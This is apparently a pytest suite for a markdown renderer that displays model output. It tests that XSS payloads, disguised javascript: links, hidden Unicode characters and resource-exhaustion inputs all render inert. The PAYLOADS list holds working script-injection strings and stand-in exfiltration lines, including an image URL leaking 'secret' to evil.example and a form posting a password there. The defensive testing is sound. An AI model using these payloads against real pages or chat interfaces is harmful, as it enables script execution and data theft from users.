"""Model output never acts: not as markup, not as a request, not on the eye."""

import time
from html.parser import HTMLParser

import pytest

from labeling.markdown import render

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/p.png",
    "[![x](https://evil.example/a)](https://evil.example/b)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[x](https://a.example "onmouseover=alert(1)")',
    "<javascript:alert(1)>",
    '<https://a.example/" onclick=alert(1)>',
    "`<b onclick=alert(1)>`",
    '```html" onload="alert(1)\n<script>alert(1)</script>\n```',
    "<style>@import 'https://evil.example/x.css'</style>",
    '<form action="https://evil.example"><input name=password></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "a\n|-|\n|<img src=x onerror=alert(1)>|",
    "$x<img src=x onerror=alert(1)>$",
    "<tex-formula onclick=alert(1)>x</tex-formula><wide-box tabindex=1>",
    "```html\n<a href=\"javascript:alert(1)\" onclick='alert(1)'>\n```",
    '<span class="hidden-character">U+0041</span>',
]
ALLOWED = {"href", "rel", "start", "value", "class", "dir"}


class Seen(HTMLParser):
    """Tags and attributes of a piece of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: dict[str, str | None] = {}
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(attrs)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_are_inert(payload: str) -> None:
    seen = Seen(render(payload))

    tags = {"p", "a", "code", "pre", "table", "thead", "tbody", "tr", "th", "td", "br"}
    tags |= {"em", "div"}  # of code blocks, and of what is shown plain
    tags |= {"span", "wide-box", "tex-formula"}
    assert seen.tags <= tags
    assert seen.attributes.keys() <= ALLOWED
    assert str(seen.attributes.get("href", "https:")).startswith("https:")


def test_markdown_is_rendered() -> None:
    assert render("**a** `b`\n\n- c\n\n3. d") == (
        "<p><strong>a</strong> <code>b</code></p><ul><li>c</li></ul>"
        '<ol start="3"><li value="3">d</li></ol>\n'
    )


def test_links_tell_nobody_where_they_come_from() -> None:
    assert render("[a](https://b.example)") == (
        '<p><a href="https://b.example" rel="noopener noreferrer nofollow">a</a></p>\n'
    )


def test_an_image_is_a_link_as_it_was_written() -> None:
    link = '<p><a href="https://b.example/c.png" rel="noopener noreferrer nofollow">{}</a></p>\n'
    for written in ("![a](https://b.example/c.png)", "![](https://b.example/c.png)"):
        assert render(written) == link.format(written)
    titled = '![a <b>](https://b.example/c.png "d")'
    shown = '![a &lt;b&gt;](https://b.example/c.png "d")'
    assert render(titled) == link.format(shown)
    assert "<a" not in render("![a](javascript:alert)")


def test_tables() -> None:
    assert Seen(render("|a|b|\n|-|-|\n|1|2|")).tags >= {"table", "th", "td"}


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\u202eb", "a[U+202E]b"),
        ("a\u200bb", "a[U+200B]b"),
        ("a\u200db", "a[U+200D]b"),
        ("\x1b[31mred", "[U+001B][31mred"),
        ("a\u206a\u3164b", "a[U+206A][U+3164]b"),
        ("a\U000e0041b", "a[U+E0041]b"),
        ("❤\ufe0f", "❤\ufe0f"),  # one selector is the emoji, …
        ("a\ufe01\U000e0152b", "a\ufe01[U+E0152]b"),  # … a row of them is a text of its own
        ("👩\u200d🍳", "👩\u200d🍳"),  # a joiner inside an emoji is the emoji
        ("\ue0002E\ue001", "[U+E000]2E[U+E001]"),  # nobody forges a marker
    ],
)
def test_hidden_characters_are_shown(text: str, shown: str) -> None:
    expected = shown.replace("[U+", '<span class="hidden-character">U+').replace("]", "</span>", 9)
    if "[31m" in shown:
        expected = '<span class="hidden-character">U+001B</span>[31mred'
    assert render(text) == f"<p>{expected}</p>\n"


@pytest.mark.parametrize(
    "bomb",
    [
        ">" * 10_000,
        "> " * 10_000,
        "[" * 10_000,
        "*a " * 10_000,
        "![" * 10_000,
        "[a](" * 5_000,
        "a" * 1_000_000,
        "a\n" * 30_000,
        "- a\n" * 15_000,
        " " * 59_000 + "x",
        "|" + " " * 59_000 + "x",
        "-" * 59_000 + "x|",
        "\\(" * 1_900,
        "$a" * 29_000,
        "$$ a $" * 9_000,
        "\\(a\\)" * 9_000,
        "$a$ " * 14_000,
        "$" + "{" * 1_900 + "$",
        "```python\n" + "'" * 19_000 + "\n```",
        "```js\n" + "/" * 19_000 + "\n```",
        "```html\n" + "<a " * 6_000 + "\n```",
        "\\begin{a}" * 3_000,
        "`" * 59_000,
        "\n" * 2_400,
        "|".join("a" * 50) + "\n" + "|".join("-" * 50) + "\n" + ("|".join("a" * 50) + "\n") * 2_000,
    ],
    ids=lambda bomb: repr(bomb[:6]),
)
def test_bombs_cost_little_more_than_ordinary_texts(bomb: str) -> None:
    ordinary = "Some *words*, `code` and [a link](https://example.org).\n\n" * 500
    assert "<em>" in render(ordinary)  # or it would be no yardstick: plain text costs nothing

    # What others do on the machine takes time from one more than from the other.
    assert any(cost(bomb) < 4 * cost(ordinary) for _ in range(5))


def cost(text: str) -> float:
    """Seconds of CPU to render it."""
    render.cache_clear()
    start = time.process_time()
    render(text)
    return time.process_time() - start


def test_a_bomb_is_shown_as_text() -> None:
    assert render("<b>" + "[" * 10_000).startswith('<div class="verbatim" dir="auto">&lt;b&gt;[[[[')
